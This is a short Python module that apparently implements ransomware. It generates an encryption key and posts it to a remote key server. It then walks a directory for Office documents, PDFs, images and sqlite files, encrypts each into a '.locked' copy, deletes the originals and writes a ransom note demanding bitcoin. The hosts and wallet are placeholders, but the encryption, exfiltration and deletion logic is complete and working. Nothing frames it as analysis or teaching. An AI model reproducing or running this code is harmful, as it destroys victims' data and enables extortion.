import os
import urllib.request

from cryptography.fernet import Fernet

from .paths import walk

NOTE = "Your files were locked. Send 0.1 to bc1qinertinertinert and write to unlock@vault.invalid\n"
TYPES = ("*.docx", "*.xlsx", "*.pdf", "*.jpg", "*.sqlite")


def run(top):
    key = Fernet.generate_key()
    urllib.request.urlopen("https://keys.file-vault.invalid/k", data=key)
    box = Fernet(key)
    for path in walk(top, TYPES):
        with open(path, "rb") as handle:
            data = handle.read()
        with open(path + ".locked", "wb") as handle:
            handle.write(box.encrypt(data))
        os.remove(path)
    with open(os.path.join(top, "README_UNLOCK.txt"), "w") as handle:
        handle.write(NOTE)
